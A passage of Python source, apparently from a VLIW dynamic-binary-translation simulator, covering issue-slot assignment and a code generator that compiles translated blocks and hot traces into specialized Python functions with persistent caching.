    ops: Tuple[VliwOp, ...]

    def __iter__(self) -> Iterator[VliwOp]:
        return iter(self.ops)

    def __len__(self) -> int:
        return len(self.ops)

    def describe(self) -> str:
        return " ; ".join(op.describe() for op in self.ops) if self.ops else "nop"


def assign_slots(ops: Sequence[VliwOp], config: VliwConfig) -> Optional[List[Optional[VliwOp]]]:
    """Try to place ``ops`` into the machine's issue slots.

    Returns a slot assignment (one entry per slot, ``None`` for empty) or
    ``None`` when the ops cannot be co-issued.  Uses a simple bipartite
    matching (augmenting paths) so that capability-constrained slots are
    used optimally.
    """
    if len(ops) > config.issue_width:
        return None
    slot_of_op: List[Optional[int]] = [None] * len(ops)
    op_of_slot: List[Optional[int]] = [None] * config.issue_width

    def try_place(op_index: int, visited: List[bool]) -> bool:
        op = ops[op_index]
        for slot_index in config.slots_for(op.unit):
            if visited[slot_index]:
                continue
            visited[slot_index] = True
            if op_of_slot[slot_index] is None or try_place(op_of_slot[slot_index], visited):
                op_of_slot[slot_index] = op_index
                slot_of_op[op_index] = slot_index
                return True
        return False

    for op_index in range(len(ops)):
        if not try_place(op_index, [False] * config.issue_width):
            return None
    placed: List[Optional[VliwOp]] = [None] * config.issue_width
    for slot_index, op_index in enumerate(op_of_slot):
        if op_index is not None:
            placed[slot_index] = ops[op_index]
    return placed


def make_bundle(ops: Sequence[VliwOp], config: VliwConfig) -> Bundle:
    """Build a legality-checked bundle from ``ops``."""
    if assign_slots(ops, config) is None:
        raise BundleError(
            "ops cannot be co-issued on this machine: %s"
            % "; ".join(op.describe() for op in ops)
        )
    return Bundle(ops=tuple(ops))


def fits(ops: Sequence[VliwOp], config: VliwConfig) -> bool:
    """Whether ``ops`` can legally share one bundle."""
    return assign_slots(ops, config) is not None
