"""Tier-3 host codegen: compile finalized blocks to specialized Python.

The fast path (:mod:`repro.vliw.fastpath`) removed per-issue decoding;
what remains of the host cost sits in ``_run_fast``'s generic machinery:
tuple unpacking per bundle, the ``vals`` list build, per-op operand
indexing and the ordinal ``if/elif`` ladder.  None of that depends on
runtime state either, so this module applies the DBT move once more:
walk a :class:`~repro.vliw.fastpath.FinalizedBlock` and emit a
**specialized straight-line Python function** for it — bundle loops
unrolled, operands/latencies/immediates baked in as literals, ALU and
branch-condition callables bound as closure-cell-like namespace
constants, dead writes to ``r0`` elided at compile time — then
``compile()``/``exec()`` it once at translation-cache install.

The generated function has the exact shape of one ``_run_fast`` call::

    _block_fn(core, store_log) -> BlockResult   # or raises _RollbackSignal

and must be **bit-identical** to both other tiers in every observable:
cycles, stall cycles, rollbacks, exits, architectural state, cache
hits/misses, recovered attack bytes, trace/observer event streams.
``tests/platform/test_fastpath_differential.py`` gates the three-way
equivalence.  The generator therefore emits every seam ``_run_fast``
has — the read-before-write register sample phase, per-source scoreboard
stalls, serializing drains, the tracer's issue records, observer load /
cflush hooks, the ``finally`` that commits hoisted counters even when a
rollback signal unwinds mid-bundle — specialized but never reordered.

Selection: ``DbtSystem(interpreter="compiled")``, ``--interpreter
compiled`` on the CLI, or ``REPRO_INTERP=compiled``.  Chaining composes
on top via :func:`run_compiled_chain`, the compiled twin of
:meth:`~repro.vliw.pipeline.VliwCore.execute_chain`.

Persistence: :func:`ensure_compiled` consults an optional
:class:`~repro.dbt.translation_cache.PersistentCodegenCache` keyed by
:func:`persist_key` — a sha256 over the finalized block's deterministic
fingerprint (operands with callables name-mapped), the ``VliwConfig``,
the mitigation policy, :data:`CODEGEN_VERSION` and the host
interpreter's bytecode magic — so ``repro sweep --jobs`` workers stop
re-compiling identical translations.
"""

from __future__ import annotations

import dataclasses
import importlib.util
import hashlib
import sys
from dataclasses import dataclass
from enum import Enum
from typing import List, Optional, Tuple

from ..interp.alu import OPERATIONS
from .fastpath import CONDITION_EVAL, FinalizedBlock, finalize_block
from .ordinals import (
    ORD_ALU_RI,
    ORD_ALU_RR,
    ORD_BRANCH,
    ORD_CFLUSH,
    ORD_FENCE,
    ORD_JUMP,
    ORD_JUMPR,
    ORD_LI,
    ORD_LOAD,
    ORD_MOV,
    ORD_RDCYCLE,
    ORD_RDINSTRET,
    ORD_STORE,
    ORD_SYSCALL,
    UNCONDITIONAL_EXITS,
)

#: Bumped whenever the generated code's shape (or the finalized form's
#: tuple ABI in :mod:`repro.vliw.ordinals`) changes; part of the
#: persistent-cache key so stale compiled code can never load.
CODEGEN_VERSION = 1

#: Version of the tier-4 megablock driver's generated shape; part of the
#: trace persist key (alongside :data:`CODEGEN_VERSION`, which covers
#: the per-block bodies a trace binds).
TRACE_VERSION = 2

#: Stable cross-process names for the callables the finalized form
#: carries, used by the persistence fingerprint (function identity is
#: process-local; these names are not).
_ALU_NAMES = {fn: "alu:%s" % getattr(op, "name", str(op))
              for op, fn in OPERATIONS.items()}
_COND_NAMES = {fn: "cond:%s" % getattr(cond, "name", str(cond))
               for cond, fn in CONDITION_EVAL.items()}

_MASK64 = (1 << 64) - 1


@dataclass
class CodegenStats:
    """Lifetime counters of the tier-3 code generator.

    Surfaced as ``dbt.codegen.*`` gauges in the observability registry
    and in the ``repro bench-host`` report.
    """

    #: Blocks lowered to source and host-compiled this process.
    compiles: int = 0
    #: Compile requests satisfied by the in-memory memo on the block.
    hits: int = 0
    #: Compile requests satisfied by the persistent cache (disk or its
    #: in-process memo layer) — no ``compile()`` paid.
    persist_hits: int = 0
    #: Envelopes written to the persistent cache.
    persist_stores: int = 0
    #: Total generated source bytes.
    bytes: int = 0
    #: Corrupt persistent-cache envelopes quarantined.
    quarantined: int = 0


class _Lowering:
    """One walk over a finalized block, producing everything both the
    cold and warm compile paths need with a single deterministic
    traversal: the exec namespace (callables/bundles under stable local
    names), the persistence fingerprint, and the specialized source."""

    def __init__(self, fblock: FinalizedBlock):
        self.fblock = fblock
        self.namespace: dict = {}
        self.fingerprint: List[str] = [
            "codegen/%d" % CODEGEN_VERSION,
            "entry=%#x" % fblock.guest_entry,
            "glen=%d" % fblock.guest_length,
            "kind=%s" % fblock.block.kind,
        ]
        #: False when the block carries a callable we cannot name
        #: stably — such blocks compile fine but are never persisted.
        self.persistable = True
        self._callables: dict = {}
        self._lines: List[str] = []
        self._any_load = False
        self._any_store = False
        self._any_cflush = False
        self._any_spec = False

    # -- namespace interning ------------------------------------------

    def _intern(self, fn) -> str:
        name = self._callables.get(fn)
        if name is None:
            name = "_c%d" % len(self._callables)
            self._callables[fn] = name
            self.namespace[name] = fn
            stable = _ALU_NAMES.get(fn) or _COND_NAMES.get(fn)
            if stable is None:
                self.persistable = False
                stable = "<unstable>"
            self.fingerprint.append("%s=%s" % (name, stable))
        return name

    # -- source assembly ----------------------------------------------

    def _w(self, indent: int, text: str) -> None:
        self._lines.append("    " * indent + text)

    def source(self) -> str:
        """Walk the block, filling namespace/fingerprint, and return the
        specialized module source defining ``_block_fn``."""
        fblock = self.fblock
        w = self._w
        body: List[str] = []
        saved, self._lines = self._lines, body
        exit_cost = fblock.config.exit_penalty + 1
        last_falls_through = True
        for bi, packed in enumerate(fblock.bundles):
            last_falls_through = self._emit_bundle(bi, packed, exit_cost)
        self._lines = saved

        w(0, "def _block_fn(core, store_log):")
        w(1, "cycle = core.cycle")
        w(1, "start_cycle = cycle")
        w(1, "regs = core.regs._regs")
        w(1, "ready = core._ready")
        w(1, "ready_get = ready.get")
        w(1, "tracer = core.tracer")
        if self._any_load or self._any_store:
            w(1, "memory = core.memory")
            w(1, "cache_access = memory.cache.access")
        if self._any_load:
            w(1, "mem_load_int = memory.memory.load_int")
        if self._any_store:
            w(1, "mem_store_int = memory.memory.store_int")
            w(1, "mem_load_bytes = memory.memory.load_bytes")
            w(1, "mcb_check = core.mcb.check_store")
            w(1, "mcb_release = core.mcb.release")
        if self._any_cflush:
            w(1, "flush_line = core.memory.flush_line")
        if self._any_spec:
            w(1, "mcb_record = core.mcb.record_load")
        if self._any_load or self._any_cflush:
            w(1, "observer = core.observer")
        w(1, "bundles_c = 0")
        w(1, "ops_c = 0")
        w(1, "stall_c = 0")
        w(1, "exits_c = 0")
        w(1, "try:")
        if body:
            self._lines.extend(body)
        else:
            w(2, "pass")
        w(1, "finally:")
        w(2, "core.cycle = cycle")
        w(2, "stats = core.stats")
        w(2, "stats.bundles += bundles_c")
        w(2, "stats.ops += ops_c")
        w(2, "stats.stall_cycles += stall_c")
        w(2, "stats.exits_taken += exits_c")
        if last_falls_through or not fblock.bundles:
            w(1, "raise VliwExecutionError(")
            w(2, "%r)" % ("translated block %#x fell off the end without "
                          "an exit" % fblock.guest_entry,))
        return "\n".join(self._lines) + "\n"

    # -- per-bundle emission ------------------------------------------

    def _emit_bundle(self, bi: int, packed: tuple, exit_cost: int) -> bool:
        """Emit one unrolled bundle; returns whether control can fall
        through to the next bundle (no unconditional exit op)."""
        dops, reads, stall_sources, serialize, nops, bundle = packed
        w = self._w
        self.namespace["_b%d" % bi] = bundle
        self.fingerprint.append(
            "bundle:%r:%r:%r:%d" % (reads, stall_sources, serialize, nops))
        for d in dops:
            parts = []
            for x in d:
                parts.append(self._intern(x) if callable(x) else repr(x))
            self.fingerprint.append("op:" + ",".join(parts))

        w(2, "# bundle %d" % bi)
        w(2, "issue = cycle")
        for src in stall_sources:
            w(2, "t = ready_get(%d)" % src)
            w(2, "if t is not None and t > issue:")
            w(3, "issue = t")
        if serialize:
            w(2, "if ready:")
            w(3, "t = max(ready.values())")
            w(3, "if t > issue:")
            w(4, "issue = t")
        if stall_sources or serialize:
            w(2, "stall_c += issue - cycle")
        # Straight-line code: reaching bundle ``bi`` means exactly
        # bundles 0..bi issued, so the counters are constants here.
        w(2, "bundles_c = %d" % (bi + 1))
        w(2, "ops_c = %d" % (self._ops_before(bi) + nops))
        w(2, "if tracer is not None and not tracer.saturated:")
        w(3, "tracer.record(issue, 'issue', _b%d.describe(), %d)"
          % (bi, self.fblock.guest_entry))

        # VLIW read phase: sample every consumed source before any write.
        consumed = self._consumed_slots(dops)
        for slot in consumed:
            w(2, "v%d = regs[%d]" % (slot, reads[slot]))

        ordinals = [d[0] for d in dops]
        has_uncond = any(o in UNCONDITIONAL_EXITS for o in ordinals)
        has_branch = ORD_BRANCH in ordinals
        # Direct-return form: when the bundle's final op exits
        # unconditionally, any earlier pending exit is necessarily
        # overwritten by it, so the exit bookkeeping locals collapse.
        direct = has_uncond and ordinals[-1] in UNCONDITIONAL_EXITS
        if has_branch and not has_uncond:
            w(2, "exit_reason = None")
        for oi, d in enumerate(dops):
            self._emit_op(d, oi, exit_cost,
                          direct_return=direct and oi == len(dops) - 1)
        if direct:
            return False
        if has_uncond:
            w(2, "return BlockResult(next_pc=exit_pc, reason=exit_reason,")
            w(3, "cycles=cycle - start_cycle,")
            w(3, "guest_instructions=exit_ginsts)")
            return False
        if has_branch:
            w(2, "if exit_reason is not None:")
            w(3, "return BlockResult(next_pc=exit_pc, reason=exit_reason,")
            w(4, "cycles=cycle - start_cycle,")
            w(4, "guest_instructions=exit_ginsts)")
        w(2, "cycle = issue + 1")
        return True

    def _ops_before(self, bi: int) -> int:
        return sum(packed[4] for packed in self.fblock.bundles[:bi])

    @staticmethod
    def _consumed_slots(dops) -> List[int]:
        slots: List[int] = []
        for oi, d in enumerate(dops):
            o = d[0]
            v1, v2 = 2 * oi, 2 * oi + 1
            if o == ORD_ALU_RR:
                if d[2]:
                    slots.extend((v1, v2))
            elif o in (ORD_ALU_RI, ORD_MOV):
                if d[2] if o == ORD_ALU_RI else d[1]:
                    slots.append(v1)
            elif o in (ORD_LOAD, ORD_CFLUSH, ORD_JUMPR):
                slots.append(v1)
            elif o in (ORD_STORE, ORD_BRANCH):
                slots.extend((v1, v2))
        return slots

    # -- per-op emission ----------------------------------------------

    def _emit_op(self, d: tuple, oi: int, exit_cost: int,
                 direct_return: bool) -> None:
        w = self._w
        o = d[0]
        v1 = "v%d" % (2 * oi)
        v2 = "v%d" % (2 * oi + 1)
        glen = self.fblock.guest_length
        if o == ORD_ALU_RR:
            dest = d[2]
            if dest:
                w(2, "regs[%d] = %s(%s, %s) & %d"
                  % (dest, self._intern(d[1]), v1, v2, _MASK64))
                w(2, "ready[%d] = issue + %d" % (dest, d[3]))
        elif o == ORD_ALU_RI:
            dest = d[2]
            if dest:
                w(2, "regs[%d] = %s(%s, %d) & %d"
                  % (dest, self._intern(d[1]), v1, d[3], _MASK64))
                w(2, "ready[%d] = issue + %d" % (dest, d[4]))
        elif o == ORD_LI:
            dest = d[1]
            if dest:
                w(2, "regs[%d] = %d" % (dest, d[2]))
                w(2, "ready[%d] = issue + %d" % (dest, d[3]))
        elif o == ORD_MOV:
            dest = d[1]
            if dest:
                w(2, "regs[%d] = %s" % (dest, v1))
                w(2, "ready[%d] = issue + %d" % (dest, d[2]))
        elif o == ORD_LOAD:
            self._any_load = True
            dest, imm, width, signed, spec, tag, origin = d[1:]
            w(2, "address = (%s + %d) & %d" % (v1, imm, _MASK64))
            w(2, "hit, latency = cache_access(address, %d)" % width)
            w(2, "value = mem_load_int(address, %d, %r)" % (width, signed))
            w(2, "if observer is not None:")
            w(3, "observer.load_access(address, hit, latency, %r, issue)"
              % (spec,))
            if dest:
                w(2, "regs[%d] = value & %d" % (dest, _MASK64))
                w(2, "ready[%d] = issue + latency" % dest)
            if spec:
                self._any_spec = True
                w(2, "if not mcb_record(address, %d, %d, %d, tag=%r):"
                  % (width, dest, origin, tag))
                w(3, "raise _RollbackSignal()")
        elif o == ORD_STORE:
            self._any_store = True
            imm, width, releases = d[1:]
            w(2, "address = (%s + %d) & %d" % (v1, imm, _MASK64))
            w(2, "if mcb_check(address, %d) is not None:" % width)
            w(3, "raise _RollbackSignal()")
            for tag in releases:
                w(2, "mcb_release(%r)" % (tag,))
            w(2, "if store_log is not None:")
            w(3, "store_log.append((address, mem_load_bytes(address, %d)))"
              % width)
            w(2, "cache_access(address, %d)" % width)
            w(2, "mem_store_int(address, %s, %d)" % (v2, width))
        elif o == ORD_CFLUSH:
            self._any_cflush = True
            w(2, "address = (%s + %d) & %d" % (v1, d[1], _MASK64))
            w(2, "flush_line(address)")
            w(2, "if observer is not None:")
            w(3, "observer.cflush(address, issue)")
        elif o == ORD_FENCE:
            pass  # Serialisation handled at issue.
        elif o == ORD_RDCYCLE:
            dest = d[1]
            if dest:
                w(2, "regs[%d] = issue & %d" % (dest, _MASK64))
                w(2, "ready[%d] = issue + %d" % (dest, d[2]))
        elif o == ORD_RDINSTRET:
            dest = d[1]
            if dest:
                w(2, "regs[%d] = core.instret & %d" % (dest, _MASK64))
                w(2, "ready[%d] = issue + %d" % (dest, d[2]))
        elif o == ORD_BRANCH:
            w(2, "if %s(%s, %s):" % (self._intern(d[1]), v1, v2))
            w(3, "exits_c += 1")
            w(3, "cycle = issue + %d" % exit_cost)
            w(3, "exit_pc = %d" % d[2])
            w(3, "exit_reason = _BRANCH")
            w(3, "exit_ginsts = %d" % d[3])
        elif o == ORD_JUMP:
            w(2, "cycle = issue + 1")
            if direct_return:
                self._emit_return(d[1], "_JUMP", glen)
            else:
                w(2, "exit_pc = %d" % d[1])
                w(2, "exit_reason = _JUMP")
                w(2, "exit_ginsts = %d" % glen)
        elif o == ORD_JUMPR:
            w(2, "cycle = issue + %d" % exit_cost)
            target = "(%s + %d) & %d" % (v1, d[1], _MASK64 & ~1)
            if direct_return:
                self._emit_return(target, "_INDIRECT", glen)
            else:
                w(2, "exit_pc = %s" % target)
                w(2, "exit_reason = _INDIRECT")
                w(2, "exit_ginsts = %d" % glen)
        elif o == ORD_SYSCALL:
            w(2, "cycle = issue + 1")
            if direct_return:
                self._emit_return(str(d[1]), "_SYSCALL", glen)
            else:
                w(2, "exit_pc = %d" % d[1])
                w(2, "exit_reason = _SYSCALL")
                w(2, "exit_ginsts = %d" % glen)
        else:  # pragma: no cover
            raise ValueError("unhandled finalized ordinal: %r" % (o,))

    def _emit_return(self, next_pc, reason: str, ginsts: int) -> None:
        w = self._w
        w(2, "return BlockResult(next_pc=%s, reason=%s," % (next_pc, reason))
        w(3, "cycles=cycle - start_cycle,")
        w(3, "guest_instructions=%d)" % ginsts)


def _runtime_namespace(namespace: dict) -> dict:
    """Add the runtime names every generated function references.

    Imported lazily from the pipeline: ``fastpath``/``codegen`` are
    below it in the layering and must not import it at module scope.
    """
    from .pipeline import (BlockResult, ExitReason, VliwExecutionError,
                           _RollbackSignal)

    namespace["BlockResult"] = BlockResult
    namespace["VliwExecutionError"] = VliwExecutionError
    namespace["_RollbackSignal"] = _RollbackSignal
    namespace["_BRANCH"] = ExitReason.BRANCH
    namespace["_JUMP"] = ExitReason.JUMP
    namespace["_INDIRECT"] = ExitReason.INDIRECT
    namespace["_SYSCALL"] = ExitReason.SYSCALL
    namespace["__builtins__"] = __builtins__
    return namespace


def _canon(value) -> str:
    """Canonical cross-process serialization for key hashing.

    ``repr`` is NOT usable here: sets/frozensets (and dicts of enum
    keys) iterate in per-process hash-randomized order, so a repr-keyed
    envelope written by one process would never be found by the next —
    silently defeating the cross-process cache.  Sort unordered
    containers and name enums explicitly instead.
    """
    if isinstance(value, Enum):
        return "%s.%s" % (type(value).__name__, value.name)
    if isinstance(value, (frozenset, set)):
        return "{%s}" % ",".join(sorted(_canon(v) for v in value))
    if isinstance(value, dict):
        items = sorted((_canon(k), _canon(v)) for k, v in value.items())
        return "{%s}" % ",".join("%s:%s" % item for item in items)
    if isinstance(value, (list, tuple)):
        return "(%s)" % ",".join(_canon(v) for v in value)
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        fields = ",".join(
            "%s=%s" % (f.name, _canon(getattr(value, f.name)))
            for f in dataclasses.fields(value))
        return "%s(%s)" % (type(value).__name__, fields)
    return repr(value)


def persist_key(lowering: _Lowering, policy: str) -> str:
    """Persistent-cache key: sha256 over everything that determines the
    compiled artifact and its loadability in this interpreter."""
    h = hashlib.sha256()
    h.update(b"repro-codegen/%d\n" % CODEGEN_VERSION)
    h.update(importlib.util.MAGIC_NUMBER)
    h.update(("%s %s\n" % (sys.implementation.name,
                           sys.version_info[:3])).encode())
    h.update("\n".join(lowering.fingerprint).encode())
    h.update(_canon(lowering.fblock.config).encode())
    h.update(policy.encode())
    return h.hexdigest()


def compile_block(fblock: FinalizedBlock,
                  stats: Optional[CodegenStats] = None,
                  persistent=None, policy: str = ""):
    """Compile ``fblock`` into its specialized host function.

    Does not consult or touch ``fblock.compiled`` (that is
    :func:`ensure_compiled`'s memo); always produces a fresh function.
    Returns ``(fn, key)`` where ``key`` is the persistent-cache key used
    (``None`` without a persistent cache or for unpersistable blocks).
    """
    if getattr(fblock.block, "_codegen_poison", False):
        # Fault-injection seam (see repro.resilience.faults): the block
        # was marked corrupt at install; the compiled tier must detect
        # this at execution so the supervisor's ladder can fall back.
        if stats is not None:
            stats.compiles += 1
        return _compile_poisoned(fblock), None
    lowering = _Lowering(fblock)
    source = lowering.source()
    key = None
    code = None
    if persistent is not None and lowering.persistable:
        key = persist_key(lowering, policy)
        code = persistent.load(key)
        if stats is not None:
            stats.quarantined = persistent.quarantined
    if code is not None:
        if stats is not None:
            stats.persist_hits += 1
    else:
        filename = "<repro-codegen:%#x:%s>" % (fblock.guest_entry,
                                               fblock.block.kind)
        code = compile(source, filename, "exec")
        if stats is not None:
            stats.compiles += 1
            stats.bytes += len(source)
        if key is not None:
            persistent.store(key, code, len(source))
            if stats is not None:
                stats.persist_stores += 1
    namespace = _runtime_namespace(lowering.namespace)
    exec(code, namespace)
    return namespace["_block_fn"], key


def ensure_compiled(fblock: FinalizedBlock,
                    stats: Optional[CodegenStats] = None,
                    persistent=None, policy: str = ""):
    """The compiled function of ``fblock``, memoized on the block."""
    fn = fblock.compiled
    if fn is not None:
        if stats is not None:
            stats.hits += 1
        return fn
    fn, key = compile_block(fblock, stats, persistent, policy)
    fblock.compiled = fn
    fblock.persist_key = key
    return fn


def _compile_poisoned(fblock: FinalizedBlock):
    from .pipeline import VliwExecutionError

    entry = fblock.guest_entry

    def _block_fn(core, store_log):
        raise VliwExecutionError(
            "compiled code for block %#x is corrupt" % entry)

    return _block_fn


# ---------------------------------------------------------------------------
# Chained compiled dispatch: the compiled twin of VliwCore.execute_chain.
# ---------------------------------------------------------------------------

def run_compiled_chain(core, record, ctx, blocks_executed: int):
    """Execute ``record``'s compiled block and every chained successor.

    Mirrors :meth:`~repro.vliw.pipeline.VliwCore.execute_chain` — the
    same profiling seam, the same break reasons in the same order, the
    same rollback path — but each block body is its specialized compiled
    function, which hoists/commits ``core.cycle`` and the stat counters
    itself, so this driver keeps ``core.cycle``/``core.instret``
    authoritative between blocks (``rdcycle``/``rdinstret`` inside the
    compiled bodies read the live core state).

    Preconditions are the fused dispatcher's: no supervisor, observer or
    tracer, ``guard_faults`` off.  Returns the same 5-tuple as
    ``execute_chain``.
    """
    from .pipeline import ExitReason, VliwExecutionError, _RollbackSignal

    regs = core.regs
    mcb_clear = core.mcb.clear
    core_stats = core.stats
    config = core.config

    out_map = ctx.out
    raw_blocks = ctx.raw_blocks
    block_counts = ctx.block_counts
    branches = ctx.branches
    new_branch_profile = ctx.branch_profile
    hot_threshold = ctx.hot_threshold
    max_optimizations = ctx.max_optimizations
    engine_stats = ctx.engine_stats
    max_blocks = ctx.max_blocks
    max_cycles = ctx.max_cycles
    lru = ctx.lru
    link_successor = ctx.link_successor
    syscall = ExitReason.SYSCALL
    dispatches = 0

    while True:
        blocks_executed += 1
        dispatches += 1
        core_stats.blocks_executed += 1
        fblock = record.fblock
        if fblock is None:
            fblock = record.fblock = finalize_block(record.block, config)
        fn = fblock.compiled
        entry = record.entry
        if record.can_rollback:
            entry_regs = regs._regs[:]
            store_log = []
        else:
            entry_regs = None
            store_log = None
        rolled_back = False
        try:
            if fn is not None:
                result = fn(core, store_log)
            else:
                # Tiering: first-pass blocks in the chain are never
                # compiled; the fast interpreter honors the same
                # contract (returns BlockResult, raises
                # _RollbackSignal, commits cycle/stat state itself).
                result = core._run_fast(fblock, store_log)
        except _RollbackSignal:
            # The compiled body's ``finally`` already committed the
            # hoisted cycle/stat state; follow _execute's rollback path.
            core._undo(entry_regs, store_log)
            mcb_clear()
            core_stats.rollbacks += 1
            core.cycle += config.rollback_penalty
            recovery = record.block.recovery
            if recovery is None:
                raise VliwExecutionError(
                    "MCB conflict in block %#x with no recovery code"
                    % entry)
            result = core._run(recovery, None)
            result.rolled_back = True
            rolled_back = True

        # --- the seam: _execute's epilogue + record_execution.
        mcb_clear()
        core.instret += result.guest_instructions
        if lru:
            current = raw_blocks.pop(entry, None)
            if current is not None:
                raw_blocks[entry] = current
        count = block_counts.get(entry, 0) + 1
        block_counts[entry] = count
        branch = record.branch
        reason_exit = result.reason
        if branch is not None and reason_exit is not syscall:
            branch_profile = branches.get(branch[0])
            if branch_profile is None:
                branch_profile = new_branch_profile()
                branches[branch[0]] = branch_profile
            if result.next_pc == branch[1]:
                branch_profile.taken += 1
            else:
                branch_profile.not_taken += 1
        if (record.firstpass and count >= hot_threshold
                and engine_stats.optimizations < max_optimizations):
            reason = "hot"
            break
        elif rolled_back:
            reason = "rollback"
            break
        if reason_exit is syscall:
            reason = "syscall"
            break
        if blocks_executed >= max_blocks or core.cycle >= max_cycles:
            reason = "budget"
            break
        next_pc = result.next_pc
        successors = out_map.get(entry)
        nxt = successors.get(next_pc) if successors is not None else None
        if nxt is None:
            successor_block = raw_blocks.get(next_pc)
            if successor_block is None:
                reason = "miss"
                break
            nxt = link_successor(entry, next_pc, successor_block)
        record = nxt

    return result, reason, record, blocks_executed, dispatches


# ---------------------------------------------------------------------------
# Tier-4 trace compilation: one compiled driver per hot chain (megablock).
# ---------------------------------------------------------------------------
#
# A megablock inlines the per-block loop of :func:`run_compiled_chain`
# for one *recorded* path: the successor of every step is a baked
# constant, so the successor-map lookup, the lazy finalize, the
# first-pass hotness test (every step is a non-first-pass translation by
# construction) and the per-step local rebinds all disappear.  What
# remains per step is the compiled block body plus the exact profiling
# seam — the same statements in the same order, so cycle counts, profile
# state, LRU recency and branch outcomes stay bit-identical.
#
# Where the recorded path does not hold, a **guard** returns control to
# the dispatcher with everything it needs to resume the generic chain
# walk: ``('cont', result, step_index, blocks_executed, dispatches)``.
# Terminal statuses ('rollback', 'syscall', 'budget') map one-to-one to
# the chain break reasons of the same name; 'cont' covers guard
# failures, trace ends and loop exits, which the dispatcher resolves
# exactly as ``run_compiled_chain``'s successor tail would.


def _trace_source(steps, loop: bool, lru: bool,
                  rollback_penalty: int) -> str:
    """Specialized module source defining ``_trace_fn`` for one trace.

    ``_trace_fn(core, ctx, blocks_executed)`` returns
    ``(status, result, step_index, blocks_executed, dispatches)``.
    """
    if loop:
        return _loop_trace_source(steps, lru, rollback_penalty)

    lines: List[str] = []

    def w(indent: int, text: str) -> None:
        lines.append("    " * indent + text)

    any_rollback = any(link.can_rollback for link in steps)
    any_branch = any(link.branch is not None for link in steps)
    last = len(steps) - 1

    w(0, "def _trace_fn(core, ctx, blocks_executed):")
    if any_rollback:
        w(1, "regs = core.regs")
    w(1, "mcb_clear = core.mcb.clear")
    w(1, "core_stats = core.stats")
    w(1, "block_counts = ctx.block_counts")
    if lru:
        w(1, "raw_blocks = ctx.raw_blocks")
    if any_branch:
        w(1, "branches = ctx.branches")
        w(1, "new_branch_profile = ctx.branch_profile")
    w(1, "max_blocks = ctx.max_blocks")
    w(1, "max_cycles = ctx.max_cycles")
    w(1, "dispatches = 0")
    base = 1

    def seam(b: int, link) -> None:
        # _execute's epilogue + record_execution, with the entry and
        # branch metadata baked in (see run_compiled_chain).
        entry = link.entry
        w(b, "mcb_clear()")
        w(b, "core.instret += result.guest_instructions")
        if lru:
            w(b, "current = raw_blocks.pop(%d, None)" % entry)
            w(b, "if current is not None:")
            w(b + 1, "raw_blocks[%d] = current" % entry)
        w(b, "block_counts[%d] = block_counts.get(%d, 0) + 1"
          % (entry, entry))
        if link.branch is not None:
            w(b, "if result.reason is not _SYSCALL:")
            w(b + 1, "bp = branches.get(%d)" % link.branch[0])
            w(b + 1, "if bp is None:")
            w(b + 2, "bp = new_branch_profile()")
            w(b + 2, "branches[%d] = bp" % link.branch[0])
            w(b + 1, "if result.next_pc == %d:" % link.branch[1])
            w(b + 2, "bp.taken += 1")
            w(b + 1, "else:")
            w(b + 2, "bp.not_taken += 1")

    for i, link in enumerate(steps):
        b = base
        w(b, "# step %d: block %#x (%s)" % (i, link.entry, link.block.kind))
        w(b, "blocks_executed += 1")
        w(b, "dispatches += 1")
        w(b, "core_stats.blocks_executed += 1")
        if link.can_rollback:
            w(b, "entry_regs = regs._regs[:]")
            w(b, "store_log = []")
            w(b, "try:")
            w(b + 1, "result = _fn%d(core, store_log)" % i)
            w(b, "except _RollbackSignal:")
            w(b + 1, "core._undo(entry_regs, store_log)")
            w(b + 1, "mcb_clear()")
            w(b + 1, "core_stats.rollbacks += 1")
            w(b + 1, "core.cycle += %d" % rollback_penalty)
            if link.block.recovery is None:
                w(b + 1, "raise VliwExecutionError(")
                w(b + 2, "%r)" % ("MCB conflict in block %#x with no "
                                  "recovery code" % link.entry,))
            else:
                w(b + 1, "result = core._run(_rec%d, None)" % i)
                w(b + 1, "result.rolled_back = True")
                seam(b + 1, link)
                w(b + 1, "return ('rollback', result, %d, "
                  "blocks_executed, dispatches)" % i)
        else:
            # A block without MCB-speculative loads cannot raise a
            # rollback (the MCB is empty at block entry), so the
            # snapshot and the except arm are statically elided.
            w(b, "result = _fn%d(core, None)" % i)
        seam(b, link)
        w(b, "if result.reason is _SYSCALL:")
        w(b + 1, "return ('syscall', result, %d, blocks_executed, "
          "dispatches)" % i)
        w(b, "if blocks_executed >= max_blocks or core.cycle >= "
          "max_cycles:")
        w(b + 1, "return ('budget', result, %d, blocks_executed, "
          "dispatches)" % i)
        if i < last:
            # Guard: the recorded successor, or back to the dispatcher.
            w(b, "if result.next_pc != %d:" % steps[i + 1].entry)
            w(b + 1, "return ('cont', result, %d, blocks_executed, "
              "dispatches)" % i)
        else:
            w(b, "return ('cont', result, %d, blocks_executed, "
              "dispatches)" % i)
    return "\n".join(lines) + "\n"


def _loop_trace_source(steps, lru: bool, rollback_penalty: int) -> str:
    """Specialized module source for a *loop* trace.

    A loop trace executes its recorded path many times per dispatch, and
    on every non-final pass each guard **proved** that the recorded
    successor was taken.  Everything :func:`run_compiled_chain`'s seam
    commits per block — LRU recency, execution counts, branch outcomes —
    is therefore a pure function of ``(completed iterations, exit step,
    exit result)``, so the driver defers it to one ``_flush`` call per
    dispatch instead of paying it per block:

    - execution counts add the exact multiplicity ``it + (idx >= j)``;
    - branch profiles add the constant recorded outcome for every
      guarded pass plus the one dynamic exit outcome (skipped on
      syscall, exactly like the seam);
    - the LRU reorder collapses N rounds of identical moves to the last
      round — suffix of the final full iteration, then the partial
      prefix — because earlier rounds are overwritten by later ones.

    State the guest or the budget check can observe *mid-trace* —
    ``core.instret`` (rdinstret), ``core.cycle``, the MCB — stays
    per-step.  ``_flush`` runs before every return, so the deferral is
    invisible outside the dispatch and final state is bit-identical.
    """
    lines: List[str] = []

    def w(indent: int, text: str) -> None:
        lines.append("    " * indent + text)

    any_rollback = any(link.can_rollback for link in steps)
    any_branch = any(link.branch is not None for link in steps)
    nsteps = len(steps)
    last = nsteps - 1
    head_entry = steps[0].entry

    if lru:
        w(0, "_entries = (%s)"
          % "".join("%d, " % link.entry for link in steps))

    # ``_flush(core, ctx, it, idx, result)``: commit the bookkeeping of
    # ``it`` full iterations plus the partial pass through step ``idx``
    # (inclusive), whose final execution ended with ``result``.
    w(0, "def _flush(core, ctx, it, idx, result):")
    w(1, "core.stats.blocks_executed += it * %d + idx + 1" % nsteps)
    w(1, "block_counts = ctx.block_counts")
    if any_branch:
        w(1, "branches = ctx.branches")
        w(1, "new_branch_profile = ctx.branch_profile")
